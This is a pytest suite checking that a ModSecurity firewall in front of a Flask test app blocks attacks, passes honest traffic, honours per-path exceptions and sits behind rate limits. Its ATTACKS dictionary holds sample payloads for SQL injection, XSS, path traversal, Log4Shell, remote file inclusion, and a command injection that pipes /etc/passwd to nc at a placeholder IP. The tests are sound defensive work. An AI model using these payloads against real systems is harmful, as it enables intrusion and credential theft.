"""The firewall: ModSecurity and the Core Rule Set in nginx, before the app, behind the limits."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from tests.support import Served, portico, private_directory, served, write_files
from tests.support.until import until

APP = """
from flask import Flask, abort, request

app = Flask(__name__)
calls = []


@app.route("/", methods=["GET", "POST", "PUT", "PATCH", "DELETE"])
@app.route("/editor", methods=["GET", "POST"])
@app.route("/editor/more", methods=["GET", "POST"])
@app.route("/hooks/github", methods=["GET", "POST"])
def home():
    calls.append(request.full_path)
    return f"seen {len(request.get_data())}"


@app.post("/json")
def received():
    calls.append(request.full_path)
    return request.get_json()


@app.post("/import")
def imported():
    return f"seen {len(request.get_data())}"


@app.get("/mine")
def mine():
    abort(403)


@app.get("/calls")
def called():
    return {"calls": calls}
"""
TOML = """
app = "shop:app"

[guard]
waf = "block"
waf_except = ["/editor 941000-941999", "/hooks/*"]
routes = true

[limits]
rate = "1/minute burst 90"

[static]
"/files/" = "files"

[routes."/import"]
max_upload = "100MiB"
"""
SCRIPT = "<script>alert(document.cookie)</script>"
ATTACKS = {
    "sql": "1' OR '1'='1' UNION SELECT password FROM users--",
    "script": SCRIPT,
    "path": "../../../../etc/passwd",
    "command": "; cat /etc/passwd | nc 203.0.113.9 99",
    "include": "http://203.0.113.9/shell.txt?",
    "java": "${jndi:ldap://203.0.113.9/a}",
}
HONEST = {
    "q": "Select a table for two from the menu, and drop me a line",
    "name": "O'Brien & Søn",
    "text": 'It\'s 5 > 3 and 2 < 4; we said "hello" -- twice. See https://shop.example/a?b=c#d',
    "mail": "jane.doe+news@shop.example",
}


def site_with(toml: str) -> dict[str, str]:
    return {"shop.py": APP, "portico.toml": toml, "files/note.txt": "a file"}


FRONTS = {"system": ("--nginx", "system"), "apache": ("--gateway", "apache")}
"""The gateways with a firewall. httpd counts no requests yet."""


def of_front(toml: str, front: str) -> str:
    return toml.replace('[limits]\nrate = "1/minute burst 90"\n', "") if front == "apache" else toml


@pytest.fixture(scope="module", params=FRONTS)
def blocking(request: pytest.FixtureRequest, _needs_nginx: None) -> Iterator[Served]:
    front = str(request.param)
    with served(site_with(of_front(TOML, front)), *FRONTS[front]) as run:
        yield run


@pytest.fixture(scope="module", params=FRONTS)
def detecting(request: pytest.FixtureRequest, _needs_nginx: None) -> Iterator[Served]:
    front = str(request.param)
    with served(site_with(of_front(TOML, front).replace('"block"', '"detect"')), *FRONTS[front]) as run:
        yield run


def line_of(run: Served, marker: str) -> dict[str, object]:
    found = until(lambda: [line for line in run.requests() if marker in line["uri"]], f"no line of {marker}")
    return found[0]


@pytest.mark.parametrize("kind", ATTACKS)
def test_an_attack_ends_in_nginx(blocking: Served, kind: str) -> None:
    answer = blocking.client.get(f"{blocking.url}/", params={kind: ATTACKS[kind]})
    assert answer.status_code == 403
    assert "looks like an attack" in answer.text
    assert line_of(blocking, f"/?{kind}=")["refused_by"] == "waf"
    form = blocking.client.post(f"{blocking.url}/", data={kind: ATTACKS[kind]})
    assert form.status_code == 403
    value = blocking.client.post(f"{blocking.url}/json", json={kind: [ATTACKS[kind]]})
    assert (value.status_code, value.headers["content-type"].partition(";")[0]) == (403, "text/html")
    assert f"/?{kind}=" not in blocking.get("/calls").text


def test_honest_requests_do_not_notice(blocking: Served) -> None:
    for method in ("GET", "POST", "PUT", "PATCH", "DELETE"):
        assert blocking.client.request(method, f"{blocking.url}/", params=HONEST).status_code == 200
    assert blocking.client.post(f"{blocking.url}/", data=HONEST).status_code == 200
    assert blocking.client.post(f"{blocking.url}/json", json=HONEST).json() == HONEST
    files = {"file": ("photo.jpg", b"\xff\xd8\xff" + bytes(range(256)) * 200, "image/jpeg")}
    assert blocking.client.post(f"{blocking.url}/", files=files).text.startswith("seen 5")
    assert blocking.get("/files/note.txt").text == "a file"


@pytest.mark.parametrize(
    "kind", ["application/octet-stream", "text/plain", "text/csv", "application/merge-patch+json"]
)
def test_bodies_of_any_kind_reach_the_app(blocking: Served, kind: str) -> None:
    body = b'{"name": "shop"}'
    answer = blocking.client.patch(f"{blocking.url}/", content=body, headers={"content-type": kind})
    assert answer.text == f"seen {len(body)}"


def test_the_apps_own_403_passes_untouched(blocking: Served) -> None:
    answer = blocking.get("/mine?own")
    assert answer.status_code == 403
    assert "looks like an attack" not in answer.text
    assert line_of(blocking, "/mine?own")["refused_by"] == ""


def test_an_exception_holds_for_its_path_alone_however_it_is_spelled(blocking: Served) -> None:
    def sent(path: str, value: str) -> int:
        return blocking.client.post(f"{blocking.url}{path}", data={"q": value}).status_code

    assert sent("/editor", SCRIPT) == 200
    assert sent("/%65ditor", SCRIPT) == 200
    assert sent("/editor", ATTACKS["sql"]) == 403
    assert sent("/editor/more", SCRIPT) == 403
    assert sent("/hooks/github", ATTACKS["sql"]) == 200
    assert sent("/hooks/%2e%2e/", SCRIPT) == 403


def test_large_uploads_pass_where_a_route_takes_them(blocking: Served) -> None:
    assert (
        blocking.client.post(f"{blocking.url}/import", content=b"x" * (17 << 20)).text == f"seen {17 << 20}"
    )
    assert blocking.client.post(f"{blocking.url}/?large", content=b"x" * (17 << 20)).status_code == 413


def test_a_body_that_is_not_what_it_says_is_refused(blocking: Served) -> None:
    head = {"content-type": "application/json"}
    for body, status in ((b'{"a": x}', 403), (b'{"a": ', 500 if blocking.is_apache else 403)):
        answer = blocking.client.post(f"{blocking.url}/json?broken", content=body, headers=head)
        assert answer.status_code == status


def test_a_long_body_reaches_the_app(blocking: Served) -> None:
    words = b'{"a": "' + b"1 2 3 " * 250_000 + b'"}'
    head = {"content-type": "application/json"}
    assert blocking.client.post(f"{blocking.url}/?long", content=words, headers=head).status_code == 200
    assert blocking.client.post(f"{blocking.url}/?long", files={"file": ("a.bin", words)}).status_code == 200


def test_a_crowd_takes_nobody_past_the_firewall(blocking: Served) -> None:
    """A location whose `if` holds hands nothing on: every request was 404 while fair shares were counted."""
    flag = blocking.runtime / "app.sock.crowd"

    def asked() -> list[int]:
        flag.touch()
        ask = [blocking.client.get(f"{blocking.url}/", params={"q": q}) for q in ("tea", SCRIPT)]
        return [answer.status_code for answer in ask] if flag.exists() else []

    try:
        assert until(asked) == [200, 403]
    finally:
        flag.unlink(missing_ok=True)


def test_paths_of_another_release_are_inspected_too(blocking: Served) -> None:
    flag = blocking.runtime / "mixed"
    flag.touch()
    try:
        answer = blocking.get("/nothing?mixed")
        assert "The requested URL was not found on the server" in answer.text, "the app's own 404"
        assert blocking.client.get(f"{blocking.url}/nothing", params={"q": SCRIPT}).status_code == 403
    finally:
        flag.unlink()


def test_detection_refuses_nothing_and_tells_which_rules_would_have(detecting: Served) -> None:
    for kind in ("sql", "script"):
        assert detecting.client.get(f"{detecting.url}/", params={kind: ATTACKS[kind]}).status_code == 200
    assert detecting.get("/?honest").status_code == 200
    assert [line_of(detecting, f"/?{name}=")["refused_by"] for name in ("sql", "script")] == ["", ""]
    done = portico("waf", "--json", cwd=detecting.directory)
    found = json.loads(done.stdout)
    assert (found["refused"], found["reported"]) == (0, 2)
    rules = {rule["rule"]: rule for rule in found["rules"]}
    assert rules[942100]["paths"] == {"GET /": 1}
    assert rules[941100]["requests"] == 1
    assert line_of(detecting, "/?script=")["id"] == rules[941100]["example"]
    (exception,) = found["exceptions"]
    assert exception.startswith("/ ")
    assert {"941100", "942100"} < set(exception.split())
    shown = portico("waf", cwd=detecting.directory).stdout
    assert "2 requests would have been refused by 1 client" in shown
    assert exception in shown


@pytest.mark.of_nginx  # httpd has no challenge
@pytest.mark.usefixtures("_needs_nginx")
def test_a_costly_route_is_inspected_whether_or_not_a_pass_is_asked_for() -> None:
    """An `if` that holds ended what the location does after it: 404."""
    challenge = '[guard]\nchallenge = "always"\nchallenge_dry_run = true'
    toml = TOML.replace("[guard]", challenge) + '[routes."/"]\ncostly = true\n'
    with served(site_with(toml), "--nginx", "system") as run:
        answers = [run.client.get(f"{run.url}/", params={"q": q}).status_code for q in ("hello", SCRIPT)]
        assert answers == [200, 403]


@pytest.mark.of_nginx  # httpd counts no requests
@pytest.mark.usefixtures("_needs_nginx")
def test_limits_come_before_the_firewall() -> None:
    toml = TOML.replace("burst 90", "burst 2")
    with served(site_with(toml), "--nginx", "system") as run:
        answers = [
            run.client.get(f"{run.url}/", params={"n": n, "q": ATTACKS["sql"]}).status_code for n in range(6)
        ]
        assert answers == [403] * 3 + [429] * 3
        handshake = {"upgrade": "websocket", "connection": "upgrade"}
        answer = run.client.get(f"{run.url}/", params={"n": 6, "q": ATTACKS["sql"]}, headers=handshake)
        assert answer.status_code == 429
        assert portico("maintenance", "on", "--allow", "127.0.0.1", cwd=run.directory).returncode == 0
        answer = run.client.get(f"{run.url}/", params={"n": 7, "q": ATTACKS["sql"]})
        assert answer.status_code == 429, "whom maintenance lets in is counted first, too"
        assert [line_of(run, f"/?n={n}&")["refused_by"] for n in range(8)] == ["waf"] * 3 + ["rate"] * 5
        found = json.loads(portico("waf", "--json", cwd=run.directory).stdout)
        assert found["refused"] == 3


@pytest.mark.usefixtures("_needs_nginx")
def test_the_embedded_nginx_has_no_firewall_and_says_what_to_install() -> None:
    with private_directory() as home:
        write_files(home, site_with(TOML))
        done = portico("plan", "--nginx", "embedded", cwd=home)
    assert done.returncode != 0
    assert "portico.toml:5: guard.waf: nginx 1." in done.stderr
    assert "has no ModSecurity" in done.stderr
    assert "libnginx-mod-http-modsecurity modsecurity-crs" in done.stderr
